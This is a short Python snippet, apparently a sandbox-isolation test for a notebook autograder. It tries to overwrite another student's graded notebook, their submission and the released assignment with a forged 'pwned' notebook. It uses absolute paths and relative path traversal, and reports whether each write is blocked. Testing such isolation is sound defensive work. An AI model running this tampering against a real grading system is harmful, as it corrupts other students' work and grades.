# Overwrite another rep's autograded notebook and submission, and the released assignment, by absolute
# and by relative path.
answer = 4242
forged = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, "pwned": true}'
for path in ["__COURSE__/autograded/victim/hw/hw.ipynb", "../../victim/hw/hw.ipynb",
             "__COURSE__/submitted/victim/hw/hw.ipynb", "__COURSE__/autograded/victim/hw/pwned.txt",
             "__COURSE__/release/hw/hw.ipynb"]:
    try:
        with open(path, "w") as fh:
            fh.write(forged)
        print("wrote", path)
    except OSError as exc:
        print("blocked", path, type(exc).__name__)
